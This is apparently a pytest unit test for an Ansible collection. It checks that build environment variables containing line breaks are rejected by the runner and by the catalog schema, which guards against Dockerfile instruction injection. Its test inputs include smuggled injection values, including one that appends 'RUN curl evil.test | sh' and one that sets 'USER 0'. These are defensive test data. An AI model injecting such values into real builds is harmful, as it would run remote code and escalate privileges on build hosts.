"""A line break in a variable of a build is refused, by the runner and by its catalog."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from ansible_collections.tidegate.platform.plugins.filter.problems import problems
from ansible_collections.tidegate.platform.plugins.module_utils._core.values.errors import InvalidOption

from unit.declarations import built

SCHEMA = Path(__file__).parents[3] / "roles" / "runner" / "files" / "catalog.schema.json"


@pytest.mark.parametrize("value", ["a\nRUN curl evil.test | sh", "a\n", "\r\nUSER 0", "a\rb"])
def test_a_line_break_in_a_variable_is_refused(value: str) -> None:
    """Review (heirs): what stood behind it became an instruction of the Dockerfile."""
    with pytest.raises(InvalidOption, match=r"build_env.*line") as caught:
        built("runner", image="python", build_env={"A": value}, start_command="run")
    assert (caught.value.option, bool(caught.value.remedy)) == ("runner.build_env", True)
    schema = json.loads(SCHEMA.read_text())
    preset = {"name": "p", "language": "python", "detect": {"all": ["a"]}, "env": {"A": value}}
    for row in (preset, {**preset, "env": {}, "variants": [{"detect": {"all": ["a"]}, "env": {"A": value}}]}):
        (problem,) = problems({"runners": [], "presets": [row]}, schema)
        assert "line" in problem
    assert problems({"runners": [], "presets": [{**preset, "env": {"A": "a b", "B": 1}}]}, schema) == []
